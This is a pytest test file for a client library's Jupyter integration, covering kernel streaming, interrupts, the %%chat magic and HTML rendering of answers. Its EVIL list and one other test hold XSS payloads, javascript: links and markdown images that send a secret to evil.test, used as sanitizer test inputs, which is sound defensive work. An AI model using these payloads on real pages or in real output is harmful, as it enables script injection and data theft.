@@ -1,0 +1,779 @@
+"""Jupyter: a real kernel, what it sends while a model answers, interrupts, and that no answer can run script."""
+
+from __future__ import annotations
+
+import json
+import os
+import queue
+import re
+import subprocess
+import sys
+import threading
+import time
+import types
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from IPython.core.interactiveshell import InteractiveShell
+from IPython.utils.capture import CapturedIO, capture_output
+from jupyter_client.manager import KernelManager
+from jupyter_core.utils import ensure_event_loop
+from nbclient import NotebookClient
+from replay import EVENT_STREAM, ReplayServer, Reply, Request
+from traitlets.config import Config
+from wire_bodies import chat_reply, chunk, error_reply, stream_pieces, stream_reply, tool_call
+
+from openai_compat import (
+    ChatResponse,
+    Client,
+    ConfigurationError,
+    Conversation,
+    EmbeddingResponse,
+    StreamEvent,
+    Usage,
+    _html,
+)
+from openai_compat.integrations import jupyter
+from openai_compat.integrations.jupyter import NotebookSink
+from openai_compat.wire.response import Choice, ParsedResponse
+
+ROOT = Path(__file__).parent.parent
+MIB = 1024 * 1024
+
+
+@dataclass
+class Cell:
+    """What a cell sent: its outputs as a notebook holds them in the end, and the messages that made them."""
+
+    outputs: list[dict[str, Any]] = field(default_factory=list)
+    kinds: list[str] = field(default_factory=list)
+    sent: int = 0
+    error: dict[str, Any] | None = None
+    seconds: float = 0.0
+
+    @property
+    def pages(self) -> list[str]:
+        return [output["text/html"] for output in self.outputs]
+
+    @property
+    def updates(self) -> int:
+        return self.kinds.count("update_display_data")
+
+
+def close_event_loop() -> None:
+    """Close this thread's loop, which Jupyter's blocking functions make and leave open."""
+    ensure_event_loop().close()
+
+
+class Kernel:
+    """A real kernel in a process of its own."""
+
+    def __init__(self, folder: Path) -> None:
+        environment = {name: value for name, value in os.environ.items() if name != "PYTHONWARNINGS"}
+        environment["IPYTHONDIR"] = str(folder)
+        self.manager = KernelManager(kernel_name="python3")
+        self.manager.start_kernel(env=environment)
+        self.client = self.manager.blocking_client()
+        self.client.start_channels()
+        self.client.wait_for_ready(timeout=60)
+
+    def run(self, code: str, *, on_output: Callable[[dict[str, Any]], object] = lambda data: None) -> Cell:
+        """Run a cell; ``on_output`` hears of each output and each change of it."""
+        cell = Cell()
+        places: dict[str, int] = {}
+        began = time.monotonic()
+        asked = self.client.execute(code)
+        while True:
+            frames = self._next_message()
+            message = self.client.session.deserialize(self.client.session.feed_identities(frames)[1])
+            if message["parent_header"].get("msg_id") != asked:
+                continue
+            kind, content = message["msg_type"], message["content"]
+            cell.kinds.append(kind)
+            cell.sent += sum(map(len, frames))
+            if kind == "status" and content["execution_state"] == "idle":
+                cell.seconds = time.monotonic() - began
+                return cell
+            if kind == "error":
+                cell.error = content
+            elif kind == "stream":
+                cell.outputs.append({"text/plain": content["text"]})
+            elif kind in ("display_data", "execute_result"):
+                places[content.get("transient", {}).get("display_id", "")] = len(cell.outputs)
+                cell.outputs.append(content["data"])
+                on_output(content["data"])
+            elif kind == "update_display_data":
+                cell.outputs[places[content["transient"]["display_id"]]] = content["data"]
+                on_output(content["data"])
+
+    def _next_message(self) -> list[bytes]:
+        channel = self.client.iopub_channel.socket
+        if not channel.poll(30_000):
+            raise TimeoutError("the kernel says nothing")
+        return channel.recv_multipart()
+
+    def interrupt(self) -> None:
+        """Press the interrupt button."""
+        self.manager.interrupt_kernel()
+        if threading.current_thread() is not threading.main_thread():
+            close_event_loop()
+
+    def close(self) -> None:
+        self.client.stop_channels()
+        self.manager.shutdown_kernel(now=True)
+        self.manager.cleanup_resources()
+        close_event_loop()
+
+
+@pytest.fixture(scope="module")
+def kernel(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
+    started = Kernel(tmp_path_factory.mktemp("ipython"))
+    started.run("from openai_compat import Client\nfrom openai_compat.integrations.jupyter import NotebookSink")
+    started.run("%load_ext openai_compat.integrations.jupyter")
+    yield started
+    started.close()
+
+
+def setup(kernel: Kernel, server: ReplayServer) -> None:
+    assert kernel.run(f"client = Client({server.url!r}, model='m')").error is None
+
+
+WITH_SINK = "answer = client.chat('hi', sink=NotebookSink())"
+WITH_MAGIC = "%%chat\nhi"
+
+
+def test_an_answer_is_one_output_and_rendered(kernel: Kernel) -> None:
+    thinking = [chunk({"reasoning_content": "hm <b>"})]
+    usage = chunk(finish_reason="stop", usage={"prompt_tokens": 3, "completion_tokens": 70, "total_tokens": 73})
+    reply = Reply(
+        headers=EVENT_STREAM, body=[*thinking, *stream_pieces("a **b", "** <i>c", finish_reason=None)[:-1], usage]
+    )
+    with ReplayServer([reply]) as server:
+        setup(kernel, server)
+        cell = kernel.run(WITH_SINK)
+    [page] = cell.pages
+    assert cell.outputs[0]["text/plain"] == "a **b** <i>c"
+    assert "<details><summary>Reasoning</summary>" in page
+    assert "hm &lt;b&gt;" in page
+    assert "<p>a <strong>b</strong> &lt;i&gt;c</p>" in page
+    assert "m-served · 3 + 70 tokens · " in page
+    assert page.endswith(" tokens/s · stop</small></p>")
+    assert kernel.run("answer.text").outputs == [{"text/plain": "'a **b** <i>c'"}]
+
+
+@pytest.mark.parametrize("tokens", [2000, 4000])
+def test_a_long_answer_costs_little(kernel: Kernel, tokens: int) -> None:
+    words = [f"word{number % 10}" + ("\n\n" if number % 50 == 0 else " ") for number in range(tokens)]
+    body = b"".join(stream_pieces(*words))
+    with ReplayServer([Reply(headers=EVENT_STREAM, body=body)]) as server:
+        setup(kernel, server)
+        cell = kernel.run(WITH_SINK)
+    assert len(cell.outputs) == 1
+    assert cell.outputs[0]["text/plain"] == "".join(words)
+    assert cell.updates <= 2 + cell.seconds / jupyter.REDRAW_SECONDS
+    # On a machine that is busy with something else there is more time for redraws.
+    assert cell.sent <= 0.1 * MIB + max(0.0, cell.seconds - 1) * jupyter.REDRAW_BYTES_PER_SECOND
+
+
+def test_each_word_of_a_slow_model_is_shown_before_the_next_comes(kernel: Kernel) -> None:
+    shown = threading.Semaphore(0)
+    words = [f"word{number}" for number in range(6)]
+
+    def body(request: Request) -> Iterator[bytes]:
+        for word in words:
+            yield chunk({"content": word + " "})
+            assert shown.acquire(timeout=10), f"{word} is not shown"
+        yield from stream_pieces()
+
+    def watch(data: dict[str, Any]) -> None:
+        if waiting and waiting[0] in data["text/html"]:
+            waiting.pop(0)
+            shown.release()
+
+    waiting = list(words)
+    with ReplayServer(lambda request: Reply(headers=EVENT_STREAM, body=body(request))) as server:
+        setup(kernel, server)
+        cell = kernel.run(WITH_SINK, on_output=watch)
+    assert not waiting
+    assert len(cell.outputs) == 1
+
+
+class Silent:
+    """A server that sends some words, and then nothing; or, without words, nothing at all."""
+
+    def __init__(self, *words: str) -> None:
+        self.asked = threading.Event()
+        self._words = words
+
+    def __call__(self, request: Request) -> Reply:
+        def body() -> Iterator[bytes]:
+            yield from (chunk({"content": word}) for word in self._words)
+            request.closed.wait(30)
+
+        self.asked.set()
+        if not self._words:
+            request.closed.wait(30)
+        return Reply(headers=EVENT_STREAM, body=body())
+
+
+def interrupted(kernel: Kernel, code: str, *words: str) -> tuple[Cell, float]:
+    """The cell, and the seconds from the interrupt, sent when all words are shown and none is to come, to idle."""
+    silent = Silent(*words)
+    seen = threading.Event()
+    stopped: queue.SimpleQueue[float] = queue.SimpleQueue()
+
+    def interrupt() -> None:
+        silent.asked.wait(10)
+        if words:
+            seen.wait(10)
+        stopped.put(time.monotonic())
+        kernel.interrupt()
+
+    def watch(data: dict[str, Any]) -> None:
+        if words and words[-1] in data["text/html"]:
+            seen.set()
+
+    with ReplayServer(silent) as server:
+        setup(kernel, server)
+        helper = threading.Thread(target=interrupt)
+        helper.start()
+        cell = kernel.run(code, on_output=watch)
+        took = time.monotonic() - stopped.get(timeout=10)
+        helper.join()
+        assert server.wait_closed(2)
+    return cell, took
+
+
+@pytest.mark.parametrize("code", [WITH_SINK, WITH_MAGIC], ids=["sink", "magic"])
+@pytest.mark.parametrize("words", [("some ", "words"), ()], ids=["mid-stream", "silent"])
+def test_the_interrupt_button_ends_the_call_and_keeps_what_came(
+    kernel: Kernel, code: str, words: tuple[str, ...]
+) -> None:
+    cell, took = interrupted(kernel, code, *words)
+    assert cell.error is not None
+    assert cell.error["ename"] == "KeyboardInterrupt"
+    assert cell.error["traceback"] == ["KeyboardInterrupt: the call was stopped"]
+    assert took < 1.5
+    if words:
+        [output] = cell.outputs
+        assert output["text/plain"] == "some words"
+        assert "<p>some words</p>" in output["text/html"]
+        assert "stopped · about 2 tokens" in output["text/html"]
+    else:
+        assert cell.outputs == []
+    assert kernel.run("1 + 1").outputs == [{"text/plain": "2"}]
+
+
+def test_an_interrupt_of_other_code_is_shown_as_ever(kernel: Kernel) -> None:
+    def interrupt(data: dict[str, Any]) -> None:
+        kernel.interrupt()
+
+    cell = kernel.run("import time\ndisplay('ready')\ntime.sleep(20)", on_output=interrupt)
+    assert cell.error is not None
+    assert any("time.sleep" in line for line in cell.error["traceback"])
+
+
+def test_a_stream_that_is_left_early_is_marked_at_the_end_of_the_cell(kernel: Kernel) -> None:
+    code = """
+sink = NotebookSink()
+with client.stream('hi') as stream:
+    for event in stream:
+        sink.emit(event)
+        break
+"""
+    with ReplayServer([stream_reply("one", "two")]) as server:
+        setup(kernel, server)
+        [page] = kernel.run(code).pages
+    assert "one" in page
+    assert "stopped" in page
+
+
+def test_a_call_on_another_thread_goes_on_beyond_its_cell(kernel: Kernel) -> None:
+    go = threading.Event()
+
+    def body() -> Iterator[bytes]:
+        yield chunk({"content": "one "})
+        go.wait(10)
+        yield from stream_pieces("two")
+
+    with ReplayServer([Reply(headers=EVENT_STREAM, body=body())]) as server:
+        setup(kernel, server)
+        kernel.run("future = client.submit('hi', sink=NotebookSink())")
+        go.set()
+        # The update goes with whichever cell runs, to the output that the first one has.
+        cell = kernel.run("future.result(10).text")
+    assert cell.outputs[-1] == {"text/plain": "'one two'"}
+
+
+def test_what_is_sent_to_the_browser_is_all_text(kernel: Kernel) -> None:
+    evil = "<script>alert(1)</script> <img src=x onerror=alert(2)> ![](http://evil.test/?q=secret) [x](javascript:1)"
+    with ReplayServer([stream_reply(evil), chat_reply(evil)]) as server:
+        setup(kernel, server)
+        pages = kernel.run(WITH_SINK).pages + kernel.run("client.chat('hi')").pages
+    assert len(pages) == 2
+    for page in pages:
+        check_harmless(page)
+
+
+def test_importing_it_loads_neither_ipython_nor_markdown() -> None:
+    code = (
+        "import sys, openai_compat.integrations.jupyter as jupyter\n"
+        "jupyter.NotebookSink()\n"
+        "assert not {'IPython', 'markdown_it', 'requests'} & set(sys.modules)"
+    )
+    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
+
+
+# What a page may hold.
+
+TAGS = frozenset(
+    {"a", "b", "blockquote", "br", "code", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol"}
+    | {"p", "pre", "s", "small", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"}
+)
+ATTRIBUTES = {
+    "href": re.compile(r"(https?://|mailto:).*", re.IGNORECASE | re.DOTALL),
+    "title": re.compile(r".*", re.DOTALL),
+    "class": re.compile(r"language-\S*"),
+    "style": re.compile(r"text-align:(left|right|center)|white-space: pre-wrap"),
+    "start": re.compile(r"\d+"),
+    "open": re.compile(r""),
+}
+
+
+class Checker(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        for name, value in attrs:
+            assert name in ATTRIBUTES, (tag, name)
+            assert ATTRIBUTES[name].fullmatch(value or ""), (tag, name, value)
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def check_harmless(page: str) -> str:
+    """The page's text."""
+    checker = Checker()
+    checker.feed(page)
+    checker.close()
+    return checker.text
+
+
+EVIL = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<style>*{display:none}</style>",
+    "<iframe src=//evil.test>",
+    "<!-- a --> <?php ?> <!DOCTYPE x> <![CDATA[ x ]]>",
+    "</pre></details></div><script>1</script>",
+    "![secret](https://evil.test/?q=secret)",
+    "![secret][r]\n\n[r]: https://evil.test/?q=secret",
+    "[![i](https://evil.test/x.png)](https://evil.test)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](java\\\nscript:1) [x](&#x0a;javascript:1) [x](\x01javascript:1)",
+    "[x](data:text/html,<script>1</script>)",
+    "[x](data:image/svg+xml;base64,AAAA) [x](vbscript:1) [x](file:///etc/passwd)",
+    "[x](//evil.test) [x](/api/shutdown) [x](?a=1)",
+    '<javascript:alert(1)> <https://ok.test/"onclick=1>',
+    '[x](https://ok.test/"onmouseover="alert(1)) [x](https://ok.test "t\\" onclick=\\"1")',
+    '```"><script>alert(1)</script>\ncode\n```',
+    "``` `<script>` \n</code></pre><script>1</script>",
+    "    </code></pre><script>1</script>",
+    "`</code><script>1</script>`",
+    "$</span><script>1</script>$ \\(<script>1</script>\\) $$<img src=x>$$ \\[<b>\\]",
+    "| <script>1</script> |\n|:-:|\n| <img src=x> |",
+    "&lt;script&gt;1&lt;/script&gt; &#60;script&#62;",
+    "# <script>1</script>\n> <script>1</script>\n- <script>1</script>",
+    "\ud83d [\ud83d](https://ok.test/\ud83d) \x00",
+]
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_nothing_in_an_answer_is_more_than_text(text: str) -> None:
+    call = ChatResponse(model=text, choices=(Choice(text=text, reasoning=text, finish_reason=text),))
+    check_harmless(_html.chat_html(call))
+
+
+@given(
+    st.lists(st.sampled_from([*EVIL, "\n", "\n\n", " ", "$", "\\", "`", "*", "[", "](", ")", "|", "<", ">", "x", '"']))
+)
+def test_nothing_in_any_text_is_more_than_text(pieces: list[str]) -> None:
+    check_harmless(_html.answer_html("".join(pieces), "".join(pieces)))
+
+
+@settings(deadline=None)
+@given(st.text())
+def test_any_text_can_be_sent(text: str) -> None:
+    page = _html.answer_html(text, text)
+    page.encode("utf-8")
+    check_harmless(page)
+
+
+def test_without_markdown_it_the_text_is_shown_as_it_stands(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "markdown_it", None)
+    _html.markdown_parser.cache_clear()
+    try:
+        page = _html.markdown_to_html("**a** <script>\n$x$")
+    finally:
+        _html.markdown_parser.cache_clear()
+    assert check_harmless(page) == "**a** <script>\n$x$"
+
+
+def test_a_text_that_is_too_long_to_parse_is_shown_as_it_stands() -> None:
+    text = "[" * (_html.MAX_MARKDOWN + 1)
+    assert check_harmless(_html.markdown_to_html(text)) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "page"),
+    [
+        ("costs $5 and $10", "<p>costs <span>$</span>5 and <span>$</span>10</p>"),
+        (r"so $a_1 * b * c_2 < 3$.", r"<p>so $a_1 * b * c_2 &lt; 3$.</p>"),
+        (r"so \(a_1\) and \[ b*c*d \]", r"<p>so \(a_1\) and \[ b*c*d \]</p>"),
+        ("$$\na_1 \\\\ b_2\n$$", "<p>$$\na_1 \\\\ b_2\n$$</p>"),
+        ("`$HOME` is \\$x", "<p><code>$HOME</code> is <span>$</span>x</p>"),
+        ("[$a*b*c$](https://x.test)", '<p><a href="https://x.test">$a*b*c$</a></p>'),
+        ("![cat](https://x.test/c.png)", '<p>!<a href="https://x.test/c.png">cat</a></p>'),
+        ("~~a~~ **b**", "<p><s>a</s> <strong>b</strong></p>"),
+    ],
+)
+def test_markdown_and_formulas(text: str, page: str) -> None:
+    assert _html.markdown_to_html(text).strip() == page
+
+
+# Values.
+
+
+def shown(page: str) -> str:
+    """The page's words."""
+    return " ".join(check_harmless(page.replace("<", " <")).split())
+
+
+def test_an_answer_shows_its_choices_its_calls_and_its_cost() -> None:
+    with ReplayServer([chat_reply("**hi**", tool_calls=[tool_call("add", '{"a": "<b>"}')])]) as server:
+        with Client(server.url, model="m") as client:
+            page = _html.chat_html(client.chat("hi"))
+    assert "<strong>hi</strong>" in page
+    assert '→ add({"a": "<b>"})' in shown(page)
+    assert "m-served · 3 + 2 tokens" in shown(page)
+    two = ChatResponse(choices=(Choice(text="one"), Choice(index=1, refusal="no")), truncated=True)
+    assert shown(_html.chat_html(two)) == "one no not finished"
+
+
+def test_a_typed_answer_shows_its_value() -> None:
+    answer = ParsedResponse(choices=(Choice(text='{"a": 1}', finish_reason="stop"),), parsed={"a": "<b>"})
+    assert shown(_html.chat_html(answer)) == "{'a': '<b>'} stop"
+
+
+def test_usage_is_a_table_of_what_is_known() -> None:
+    assert shown(_html.usage_html(Usage(input_tokens=1234, total_tokens=2000))) == "tokens input 1,234 total 2,000"
+    assert "of it cached 7" in shown(_html.usage_html(Usage(cached_tokens=7)))
+
+
+def test_embeddings_show_how_they_begin() -> None:
+    answer = EmbeddingResponse(vectors=[[0.5] * 8] * 12, model="m", usage=Usage(input_tokens=5))
+    words = shown(_html.embeddings_html(answer))
+    assert words.startswith("vector 0 0.5000, 0.5000, 0.5000, 0.5000, 0.5000, … 1 ")
+    assert words.endswith("… 2 more 12 × 8 float32 · m · 5 tokens")
+    assert shown(_html.embeddings_html(EmbeddingResponse(vectors=()))) == "vector 0 × 0 float32 · 0 tokens"
+
+
+def test_a_conversation_shows_who_said_what() -> None:
+    messages = [
+        {
+            "role": "user",
+            "content": [{"type": "text", "text": "<b>?"}, {"type": "image_url", "image_url": {"url": "u"}}],
+        },
+        {"role": "assistant", "content": "*yes*", "tool_calls": [tool_call("add", "{}")]},
+        {"role": "tool", "content": "<3>", "tool_call_id": "call_1"},
+    ]
+    conversation = Conversation(lambda request, **options: ChatResponse(), system="brief", messages=messages)
+    page = _html.conversation_html(conversation)
+    assert "<em>yes</em>" in page
+    assert shown(page) == "system brief user <b>? [image_url] assistant yes → add({}) tool <3>"
+    empty = Conversation(lambda request, **options: ChatResponse())
+    assert "nothing was said yet" in _html.conversation_html(empty)
+
+
+# The magic and the sink, in this process.
+
+
+@pytest.fixture
+def shell() -> Iterator[Any]:
+    config = Config()
+    config.HistoryManager.enabled = False
+    made = InteractiveShell.instance(config=config, user_module=types.ModuleType("notebook"), user_ns={})
+    made.run_line_magic("load_ext", "openai_compat.integrations.jupyter")
+    yield made
+    made.run_line_magic("unload_ext", "openai_compat.integrations.jupyter")
+    InteractiveShell.clear_instance()
+
+
+def run(shell: Any, code: str) -> CapturedIO:
+    with capture_output() as captured:
+        shell.run_cell(code)
+    return captured
+
+
+def asked(server: ReplayServer) -> dict[str, Any]:
+    body: dict[str, Any] = server.requests[-1].json()
+    return body
+
+
+def last_page(captured: CapturedIO) -> str:
+    return str(captured.outputs[-1].data["text/html"])
+
+
+@pytest.mark.parametrize(
+    ("options", "expected"),
+    [
+        ("", {"model": "m"}),
+        ("--model other --max-tokens 5 -t 0.5", {"model": "other", "max_tokens": 5, "temperature": 0.5}),
+        (
+            "-s 'You are \"brief\"'",
+            {"messages": [{"role": "system", "content": 'You are "brief"'}, {"role": "user", "content": "hi\nthere"}]},
+        ),
+        ("-m $name", {"model": "mine"}),
+    ],
+)
+def test_chat_takes_options(shell: Any, options: str, expected: dict[str, Any]) -> None:
+    with ReplayServer([stream_reply("a **b**")]) as server, Client(server.url, model="m") as client:
+        shell.user_ns.update(client=client, name="mine")
+        captured = run(shell, f"%%chat {options}\n\nhi\nthere\n")
+        body = asked(server)
+    assert {name: body[name] for name in expected} == expected
+    assert body["messages"][-1] == {"role": "user", "content": "hi\nthere"}
+    assert body["stream"] is True
+    assert "<strong>b</strong>" in last_page(captured)
+
+
+def test_chat_can_wait_for_the_whole_answer(shell: Any) -> None:
+    with ReplayServer([chat_reply("a **b**")]) as server, Client(server.url, model="m") as client:
+        shell.user_ns["client"] = client
+        captured = run(shell, "%%chat --no-stream --to answer\nhi")
+        assert not asked(server).get("stream")
+    assert "<strong>b</strong>" in last_page(captured)
+    assert shell.user_ns["answer"].text == "a **b**"
+
+
+def test_chat_keeps_a_conversation(shell: Any) -> None:
+    with ReplayServer([stream_reply("one"), stream_reply("two")]) as server, Client(server.url, model="m") as client:
+        shell.user_ns["client"] = client
+        run(shell, "%%chat -c talk -s brief --max-tokens 9\nfirst")
+        run(shell, "%%chat -c talk\nsecond")
+        bodies = [request.json() for request in server.requests]
+    assert [[message["content"] for message in body["messages"]] for body in bodies] == [
+        ["brief", "first"],
+        ["brief", "first", "one", "second"],
+    ]
+    assert [body.get("max_tokens") for body in bodies] == [9, None]
+    assert isinstance(shell.user_ns["talk"], Conversation)
+
+
+@pytest.mark.parametrize("options", ["--base-url {url} -m m", "--base-url {url} --provider ollama -m m", "-m m"])
+def test_chat_finds_its_server(shell: Any, options: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    with ReplayServer([stream_reply("found")]) as server:
+        monkeypatch.setenv("OPENAI_API_KEY", "sk-env")
+        if "base-url" not in options:
+            monkeypatch.setenv("OPENAI_BASE_URL", server.url)
+        captured = run(shell, f"%%chat {options.format(url=server.url)}\nhi")
+        key = server.requests[0].headers.get("Authorization")
+    assert "found" in last_page(captured)
+    assert key == (None if "ollama" in options else "Bearer sk-env")
+
+
+@pytest.mark.parametrize(
+    ("cell", "prompt"),
+    [
+        ("$name, ${1 + 1}, ${name[0]}", "Ada, 2, A"),
+        ("What's $name's age? It isn't $number", "What's Ada's age? It isn't 3"),
+        ('{"json": {name}} costs $5, $$name', '{"json": {name}} costs $5, $name'),
+        ("go on: $earlier", "go on: said"),
+    ],
+)
+def test_chat_fills_in_variables(shell: Any, cell: str, prompt: str) -> None:
+    with ReplayServer([stream_reply("ok")]) as server, Client(server.url, model="m") as client:
+        earlier = ChatResponse(choices=(Choice(text="said"),))
+        shell.user_ns.update(client=client, name="Ada", number=3, earlier=earlier)
+        run(shell, f"%%chat\n{cell}")
+        assert asked(server)["messages"][0]["content"] == prompt
+
+
+@pytest.mark.parametrize(
+    ("cell", "message"),
+    [
+        ("%%chat\nhi $nobody", "$nobody: name 'nobody' is not defined (write $$ for a dollar sign)"),
+        ("%%chat\n${1 / 0}", "${1 / 0}: division by zero"),
+        ("%%chat --nonsense\nhi", "unrecognized arguments: --nonsense"),
+        ("%%chat --max-tokens many\nhi", "invalid int value: 'many'"),
+        ("%%chat -s 'open\nhi", "No closing quotation"),
+        ("%%chat --to 1x\nhi", "'1x' is no name of a variable"),
+        ("%%chat -c taken\nhi", "taken is a int, not a Conversation"),
+        ("%%chat -c talk --provider ollama\nhi", "talk goes on with its own server"),
+        ("%%chat\n ", "ConfigurationError: "),
+        ("%%chat --provider nobody\nhi", "ConfigurationError: "),
+        ("%%chat\nhi", "BadRequestError: "),
+    ],
+)
+def test_chat_says_in_a_line_what_is_wrong(shell: Any, cell: str, message: str) -> None:
+    with ReplayServer([error_reply(400, "too hot")]) as server, Client(server.url, model="m") as client:
+        shell.user_ns.update(client=client, taken=1, talk=Conversation(client.chat))
+        captured = run(shell, cell)
+    told = captured.stdout + captured.stderr
+    assert message in told
+    assert len(told.strip().splitlines()) == 1
+    assert not captured.outputs
+
+
+def test_chat_has_help(shell: Any) -> None:
+    text = shell.find_cell_magic("chat").__doc__
+    assert "--conversation" in text
+    assert "$name" in text
+
+
+def test_the_extension_can_be_unloaded(shell: Any) -> None:
+    shell.run_line_magic("unload_ext", "openai_compat.integrations.jupyter")
+    assert shell.find_cell_magic("chat") is None
+    shell.run_line_magic("load_ext", "openai_compat.integrations.jupyter")
+
+
+def test_values_are_shown_by_their_own_formatter(shell: Any) -> None:
+    shell.user_ns.update(
+        answer=ChatResponse(choices=(Choice(text="**a**"),)),
+        parsed=ParsedResponse(choices=(Choice(text="1"),), parsed=7),
+        vectors=EmbeddingResponse(vectors=[[1.0]]),
+        talk=Conversation(lambda request, **options: ChatResponse()),
+    )
+    captured = run(shell, "display(answer, parsed, vectors, talk)")
+    assert [shown(output.data["text/html"]) for output in captured.outputs] == [
+        "a unknown",
+        "7 unknown",
+        "vector 0 1.0000 1 × 1 float32 · 0 tokens",
+        "conversation nothing was said yet",
+    ]
+
+
+def test_each_round_of_a_tool_loop_is_an_output_of_its_own(shell: Any) -> None:
+    def add(a: int, b: int) -> int:
+        return a + b
+
+    call = {"index": 0, **tool_call("add", '{"a": 1, "b": 2}')}
+    first = Reply(
+        headers=EVENT_STREAM, body=[chunk({"tool_calls": [call]}), *stream_pieces(finish_reason="tool_calls")]
+    )
+    with ReplayServer([first, stream_reply("it is ", "3")]) as server, Client(server.url, model="m") as client:
+        with capture_output() as captured:
+            answer = client.run_tools("1 + 2?", tools=[add], sink=NotebookSink())
+    assert answer.text == "it is 3"
+    ends = [output.data for output in captured.outputs if "text/plain" in output.data]
+    assert [end["text/plain"] for end in ends] == ["", "it is 3"]
+    assert '→ add({"a": 1, "b": 2})' in shown(ends[0]["text/html"])
+
+
+def test_reasoning_is_open_until_the_answer_begins_and_not_sent_again_and_again(shell: Any) -> None:
+    sink = NotebookSink()
+    with capture_output() as captured:
+        for event in (StreamEvent("reasoning", "hm " * 5000), StreamEvent("text", "so")):
+            sink.emit(event)
+            sink._draft._timer and sink._draft._timer.join()  # type: ignore[union-attr]
+        sink.emit(StreamEvent("done", ChatResponse(choices=(Choice(text="so", reasoning="hm " * 5000),))))
+    first, second, last = (output.data["text/html"] for output in captured.outputs)
+    assert first.startswith("<details open>")
+    assert second.startswith("<details><summary>")
+    assert len(first) < 3000 < 15000 < len(last)
+
+
+def test_a_stream_that_fails_keeps_what_came_and_says_why(shell: Any) -> None:
+    body = [*stream_pieces("one", finish_reason=None, done=False), b'data: {"error": {"message": "<b>"}}\n\n']
+    with ReplayServer([Reply(headers=EVENT_STREAM, body=body)]) as server:
+        with Client(server.url, model="m", max_retries=0) as client:
+            shell.user_ns["client"] = client
+            captured = run(shell, "%%chat\nhi")
+    page = last_page(captured)
+    assert shown(page).startswith("one StreamServerError · about 1 tokens")
+
+
+def test_the_sink_needs_the_extra_in_a_notebook(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "markdown_it", None)
+    _html.markdown_parser.cache_clear()
+    with pytest.raises(ConfigurationError, match=re.escape("openai-compat[jupyter]")):
+        NotebookSink()
+
+
+def test_an_own_handler_of_interrupts_stays(shell: Any) -> None:
+    shell.set_custom_exc((ZeroDivisionError,), lambda *args, **options: None)
+    NotebookSink()
+    assert shell.custom_exceptions == (ZeroDivisionError,)
+
+
+# Without a notebook.
+
+
+def test_in_plain_python_it_prints(capsys: pytest.CaptureFixture[str]) -> None:
+    with ReplayServer([stream_reply("a **b", "**")]) as server, Client(server.url, model="m") as client:
+        client.chat("hi", sink=NotebookSink())
+    assert capsys.readouterr().out == "a **b**\n"
+
+
+def test_in_a_terminal_ipython_prints(tmp_path: Path) -> None:
+    environment = {**os.environ, "IPYTHONDIR": str(tmp_path), "NO_COLOR": "1", "TERM": "dumb"}
+    environment.pop("PYTHONWARNINGS", None)
+    with ReplayServer([stream_reply("a **b", "**"), stream_reply("streamed"), chat_reply("whole")]) as server:
+        script = tmp_path / "script.ipy"
+        script.write_text(
+            "from openai_compat import Client\n"
+            "from openai_compat.integrations.jupyter import NotebookSink\n"
+            f"client = Client({server.url!r}, model='m')\n"
+            "answer = client.chat('hi', sink=NotebookSink())\n"
+            "%load_ext openai_compat.integrations.jupyter\n"
+            "get_ipython().run_cell_magic('chat', '', 'hi')\n"
+            "get_ipython().run_cell_magic('chat', '--no-stream', 'hi')\n"
+        )
+        command = [sys.executable, "-m", "IPython", "--simple-prompt", "--no-banner", str(script)]
+        ran = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60, check=True)
+    assert ran.stdout.strip().splitlines() == ["a **b**", "streamed", "whole"], ran.stderr
+
+
+# The tour.
+
+
+def test_the_tour_runs(tmp_path: Path) -> None:
+    notebook = nbformat.read(ROOT / "docs" / "examples" / "tour.ipynb", as_version=4)
+    assert not any(cell.get("outputs") for cell in notebook.cells), "it is kept without outputs"
+    environment = {name: value for name, value in os.environ.items() if name != "PYTHONWARNINGS"}
+    client = NotebookClient(notebook, timeout=100, kernel_name="python3")
+    client.execute(env={**environment, "IPYTHONDIR": str(tmp_path)})
+    outputs = {cell.id: cell.outputs for cell in notebook.cells if cell.cell_type == "code"}
+    for name in ("ask", "usage", "stream", "magic", "say", "go-on", "conversation", "embed"):
+        [output] = outputs[name]
+        assert shown(output["data"]["text/html"]), name
+    assert " + 40 tokens · " in shown(outputs["stream"][0]["data"]["text/html"])
+    assert re.match("system You are brief. user My name is Alice. assistant .* user What is my name. assistant .*input",
+                    shown(outputs["conversation"][0]["data"]["text/html"]))  # fmt: skip
+    pages = [output["data"]["text/html"] for output in outputs["tools"]]
+    assert len(pages) > 1
+    assert "→ add(" in shown(pages[0])
+    [city] = outputs["typed"]
+    assert "City(name=" in shown(city["data"]["text/html"])
+    [similar] = outputs["similar"]
+    same, *others = json.loads(similar["data"]["text/plain"])
+    assert same == pytest.approx(1, abs=0.002)
+    assert all(number < 0.999 for number in others)
